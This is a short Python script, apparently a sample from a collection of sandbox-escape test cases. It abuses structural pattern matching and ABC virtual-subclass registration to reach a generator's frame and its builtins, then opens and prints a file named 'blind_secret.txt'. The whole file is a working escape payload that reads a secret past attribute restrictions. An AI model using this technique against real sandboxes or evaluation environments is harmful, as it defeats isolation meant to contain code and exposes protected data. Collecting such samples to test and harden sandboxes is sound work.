# family: objgraph (written blind, second set)
import collections.abc
import numbers


class Frameish(numbers.Number):
    __match_args__ = ("gi_frame",)


class Tableish(numbers.Number):
    __match_args__ = ("f_builtins",)


Frameish.register(collections.abc.Hashable)
Tableish.register(collections.abc.Hashable)


def run(xs: list[int]) -> str:
    match (x for x in xs):
        case Frameish(Tableish(table)):
            return table["open"]("/tmp/r10/work/blind_secret.txt").read()
    return ""


print(run([1]))
